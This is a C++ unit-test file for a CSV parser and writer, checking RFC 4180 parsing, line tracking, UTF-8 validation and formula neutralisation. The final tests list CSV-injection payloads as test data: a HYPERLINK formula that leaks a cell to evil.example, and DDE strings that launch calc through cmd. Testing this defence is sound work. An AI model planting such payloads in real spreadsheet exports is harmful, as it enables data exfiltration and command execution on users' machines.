#include "core/csv.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "core/json.h"

namespace strata::core {
namespace {

std::string ReadFile(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

std::vector<std::vector<std::string>> FieldsOf(const std::vector<CsvRecord>& records) {
  std::vector<std::vector<std::string>> fields;
  for (const auto& record : records) fields.push_back(record.fields);
  return fields;
}

std::vector<std::size_t> LinesOf(const std::vector<CsvRecord>& records) {
  std::vector<std::size_t> lines;
  for (const auto& record : records) lines.push_back(record.line);
  return lines;
}

// The records as csv-spectrum's expectations give them: one object per row after the header.
json::array AsObjects(const std::vector<CsvRecord>& records) {
  json::array rows;
  for (std::size_t i = 1; i < records.size(); ++i) {
    json::object row;
    for (std::size_t column = 0; column < records[0].fields.size(); ++column) {
      row[records[0].fields[column]] = records[i].fields.at(column);
    }
    rows.emplace_back(std::move(row));
  }
  return rows;
}

// Every case of csv-spectrum parses to its expected JSON, except one that RFC 4180 forbids.
TEST(ReadCsvTest, PassesCsvSpectrum) {
  const std::filesystem::path root = std::filesystem::path(STRATA_CSV_DATA) / "csv-spectrum";
  int cases = 0;
  for (const auto& entry : std::filesystem::directory_iterator(root / "csvs")) {
    const std::string name = entry.path().stem().string();
    SCOPED_TRACE(name);
    auto records = ReadCsv(ReadFile(entry.path()));
    ++cases;
    if (name == "location_coordinates") {
      // Its unquoted field holds quotes (37°36'37.8"N), which RFC 4180 does not allow and a
      // strict reader refuses; csv-spectrum expects the lenient reading.
      ASSERT_FALSE(records.ok());
      EXPECT_EQ(records.error().fields.at(0).field, "2");
      continue;
    }
    ASSERT_TRUE(records.ok()) << records.error().message;
    const json::value expected = json::parse(ReadFile(root / "json" / (name + ".json")));
    EXPECT_EQ(json::value(AsObjects(*records)), expected);
  }
  EXPECT_EQ(cases, 12);
}

TEST(ReadCsvTest, RecordsKnowTheLineTheyStartOn) {
  auto records = ReadCsv("a,b\n\n\"two\nlines\",x\r\n\r\nlast,\"\"\n\nend");
  ASSERT_TRUE(records.ok()) << records.error().message;
  EXPECT_EQ(FieldsOf(*records), (std::vector<std::vector<std::string>>{
                                    {"a", "b"}, {"two\nlines", "x"}, {"last", ""}, {"end"}}));
  EXPECT_EQ(LinesOf(*records), (std::vector<std::size_t>{1, 3, 6, 8}));
}

TEST(ReadCsvTest, ABlankLineInsideAQuotedFieldIsPartOfIt) {
  auto records = ReadCsv("\"a\n\nb\",c\nd,e\n");
  ASSERT_TRUE(records.ok()) << records.error().message;
  EXPECT_EQ(FieldsOf(*records),
            (std::vector<std::vector<std::string>>{{"a\n\nb", "c"}, {"d", "e"}}));
  EXPECT_EQ(LinesOf(*records), (std::vector<std::size_t>{1, 4}));
}

TEST(ReadCsvTest, ACarriageReturnAloneEndsALine) {
  auto records = ReadCsv("a,b\rc,d\r");
  ASSERT_TRUE(records.ok()) << records.error().message;
  EXPECT_EQ(FieldsOf(*records), (std::vector<std::vector<std::string>>{{"a", "b"}, {"c", "d"}}));
  EXPECT_EQ(LinesOf(*records), (std::vector<std::size_t>{1, 2}));
}

TEST(ReadCsvTest, SkipsAByteOrderMarkAndKeepsSpaces) {
  auto records = ReadCsv("\xEF\xBB\xBFname, city \n  Acme ,\" Oslo \"\n");
  ASSERT_TRUE(records.ok()) << records.error().message;
  EXPECT_EQ(FieldsOf(*records),
            (std::vector<std::vector<std::string>>{{"name", " city "}, {"  Acme ", " Oslo "}}));
}

TEST(ReadCsvTest, EmptyFieldsAndEmptyTexts) {
  auto commas = ReadCsv(",,\n");
  ASSERT_TRUE(commas.ok());
  EXPECT_EQ(FieldsOf(*commas), (std::vector<std::vector<std::string>>{{"", "", ""}}));
  for (const char* nothing : {"", "\n", "\r\n\r\n", "\xEF\xBB\xBF"}) {
    auto records = ReadCsv(nothing);
    ASSERT_TRUE(records.ok()) << records.error().message;
    EXPECT_TRUE(records->empty());
  }
}

TEST(ReadCsvTest, FormulaTextIsReadAsText) {
  auto records = ReadCsv("=1+1,\"=HYPERLINK(\"\"http://x\"\")\",@SUM(A1)\n");
  ASSERT_TRUE(records.ok()) << records.error().message;
  EXPECT_EQ(
      FieldsOf(*records),
      (std::vector<std::vector<std::string>>{{"=1+1", "=HYPERLINK(\"http://x\")", "@SUM(A1)"}}));
}

TEST(ReadCsvTest, AQuoteOutOfPlaceNamesItsLine) {
  for (const char* text : {"a,b\nc,d\"e\n", "a,b\n\"c\"d,e\n", "a,b\n\"c\" ,d\n"}) {
    SCOPED_TRACE(text);
    auto records = ReadCsv(text);
    ASSERT_FALSE(records.ok());
    EXPECT_EQ(records.error().code, Errc::kInvalidArgument);
    EXPECT_EQ(records.error().message.rfind("line 2 ", 0), 0U) << records.error().message;
    ASSERT_EQ(records.error().fields.size(), 1U);
    EXPECT_EQ(records.error().fields[0].field, "2");
  }
}

TEST(ReadCsvTest, AQuotedFieldNeverClosedNamesTheLineItStartsOn) {
  auto records = ReadCsv("a,b\n\n\"open,\nmore\nstill");
  ASSERT_FALSE(records.ok());
  EXPECT_EQ(records.error().fields.at(0).field, "3");
  EXPECT_NE(records.error().message.find("never closed"), std::string::npos);
}

TEST(ReadCsvTest, TextThatIsNotUtf8IsRefusedWithItsLine) {
  for (const std::string& bad :
       std::vector<std::string>{"\xff", "\xC0\xAF", "\xED\xA0\x80", "\xE2\x82", "\xF4\x90\x80\x80",
                                std::string("a\0b", 3)}) {
    auto records = ReadCsv("name\nok\n\"x\ny" + bad + "\"\n");
    ASSERT_FALSE(records.ok());
    EXPECT_EQ(records.error().code, Errc::kInvalidArgument);
    EXPECT_EQ(records.error().fields.at(0).field, "4") << records.error().message;
  }
  // Valid multi-byte text passes: two, three and four bytes.
  auto good = ReadCsv("\xC3\xA9,\xE2\x82\xAC,\xF0\x9F\x98\x80\n");
  ASSERT_TRUE(good.ok());
  EXPECT_EQ(good->at(0).fields.at(2), "\xF0\x9F\x98\x80");
}

TEST(ReadCsvTest, ReadsManyRecords) {
  std::string text = "company,amount\r\n";
  for (int i = 0; i < 50000; ++i) text += "\"Company " + std::to_string(i) + ", Inc\",12.50\r\n";
  auto records = ReadCsv(text);
  ASSERT_TRUE(records.ok());
  ASSERT_EQ(records->size(), 50001U);
  EXPECT_EQ(records->back().line, 50001U);
  EXPECT_EQ(records->back().fields.at(0), "Company 49999, Inc");
}

TEST(CsvWriterTest, QuotesOnlyWhatNeedsIt) {
  CsvWriter csv;
  csv.Text("plain").Text("a,b").Text("say \"hi\"").Text("two\nlines").Number(-42).EndRow();
  csv.Text("").Text("x").EndRow();
  EXPECT_EQ(csv.str(), "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",-42\r\n,x\r\n");
}

// The formula-injection forms of the OWASP CSV injection page and PayloadsAllTheThings.
TEST(CsvWriterTest, FormulaCellsAreNeutralised) {
  for (const char* payload :
       {"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
        R"(=HYPERLINK("http://evil.example?x="&A1,"Error: click"))", "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "+thespanishinquisition(cmd|'/c calc.exe'!A)"}) {
    const std::string cell = NeutraliseFormula(payload);
    EXPECT_EQ(cell, std::string("'") + payload);
    CsvWriter csv;
    csv.Text(payload).EndRow();
    const std::string& row = csv.str();
    // Whether quoted or not, the first character a spreadsheet reads is the apostrophe.
    const std::size_t first = row.front() == '"' ? 1 : 0;
    EXPECT_EQ(row[first], '\'') << row;
  }
}

TEST(CsvWriterTest, OrdinaryTextAndNumbersAreLeftAlone) {
  EXPECT_EQ(NeutraliseFormula("Acme Ltd"), "Acme Ltd");
  EXPECT_EQ(NeutraliseFormula("a=b"), "a=b");
  EXPECT_EQ(NeutraliseFormula(""), "");
  CsvWriter csv;
  csv.Number(-5).EndRow();
  EXPECT_EQ(csv.str(), "-5\r\n");
}

}  // namespace
}  // namespace strata::core
